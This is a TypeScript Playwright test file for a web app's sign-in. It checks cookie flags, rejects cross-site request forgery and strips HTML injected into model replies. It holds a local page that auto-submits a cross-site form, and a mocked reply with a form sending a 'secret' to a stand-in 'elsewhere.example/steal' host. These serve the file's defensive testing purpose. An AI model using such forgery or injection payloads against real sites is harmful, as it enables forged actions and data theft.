import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ARTIFACTS, launchBrowser, startServer } from '../helpers/browser.js';
import { mock, MODEL_ENV } from '../helpers/openai-mock.js';
import { decide, say } from '../helpers/replies.js';

/** A shared mockloop in the browser: sign-in, the cookie it gets, and what another site cannot do with it. */
let browser: Browser;
let app: Awaited<ReturnType<typeof startServer>>;
let token: string;
let evil: Server;
let evilBase: string;

beforeAll(async () => {
  app = await startServer({ ...MODEL_ENV, AUTH: 'token' });
  await app.deps.accounts.addUser('dana');
  token = (await app.deps.accounts.createToken('dana')).token;
  browser = await launchBrowser();
  // Another origin (another port): a page with a form that posts to mockloop on its own.
  evil = createServer((req, res) => {
    const target = new URL(req.url ?? '/', 'http://x').searchParams.get('target') ?? '';
    res
      .writeHead(200, { 'content-type': 'text/html' })
      .end(
        `<!doctype html><form id="f" method="POST" action="${target}" enctype="text/plain"><input name="x" value="1"></form><script>document.getElementById('f').submit()</script>`,
      );
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  evilBase = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
}, 60_000);
afterAll(async () => {
  await browser?.close();
  app?.server.close();
  evil?.close();
});

describe('a shared mockloop in the browser', () => {
  /** A new browser signed in with the token, in a loop that has asked its first question. */
  async function signInAndStart() {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(app.base);
    await page.getByLabel('API token').fill(token);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('button', { name: 'Start the interview' }).click();
    await page.waitForSelector('.msg[data-kind="question"]');
    return { context, page };
  }

  it('signs in with a token, keeps an HttpOnly cookie, and runs the interview', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(app.base);
    await page.getByLabel('API token').fill(token);
    await page.screenshot({ path: `${ARTIFACTS}sign-in.png` });
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect.poll(() => page.locator('#provider').textContent()).toMatch(/Model: gpt-test/);
    const cookies = await context.cookies();
    expect(cookies.find((c) => c.name === 'mockloop_login')).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
    expect(await page.evaluate(() => document.cookie)).not.toContain('mockloop_login');
    await page.getByRole('button', { name: 'Start the interview' }).click();
    await page.waitForSelector('.msg[data-kind="question"]');
    expect((await app.deps.loop.views.list((await app.deps.accounts.userByName('dana'))!.id)).items).toHaveLength(1);
    await context.close();
  }, 60_000);

  it('refuses a cross-site form post even with the sign-in cookie in the browser', async () => {
    const { context, page } = await signInAndStart();
    const id = decodeURIComponent(new URL(page.url()).hash.split('/').at(-1)!);
    const attack = await context.newPage();
    const landed = attack.waitForResponse((r) => r.url().includes('/finish'));
    await attack.goto(`${evilBase}/?target=${encodeURIComponent(`${app.base}/api/sessions/${id}/finish`)}`);
    const res = await landed;
    expect([401, 403, 415]).toContain(res.status());
    expect((await app.deps.loop.views.get(id)).status).toBe('active');
    await context.close();
  }, 60_000);

  it('renders no form, input or style tag that a model reply contains', async () => {
    const { context, page } = await signInAndStart();
    mock.reply(
      decide('followup', 'action'),
      say(
        'Tell me more. <form action="https://elsewhere.example/steal"><input name="secret"><button>Send</button></form>',
        '<style>body { display: none }</style><iframe src="https://elsewhere.example"></iframe> What did you do?',
      ),
    );
    await page.locator('#answer').fill('I fixed the outage myself and told my team what happened.');
    await page.keyboard.press('Control+Enter');
    await page.waitForSelector('.msg[data-kind="followup"]');
    const followUp = page.locator('.msg[data-kind="followup"]').last();
    expect(await followUp.textContent()).toContain('What did you do?');
    expect(
      await page.locator('.transcript form, .transcript input, .transcript style, .transcript iframe, .transcript button').count(),
    ).toBe(0);
    expect(await page.locator('body').isVisible()).toBe(true);
    await context.close();
  }, 60_000);
});
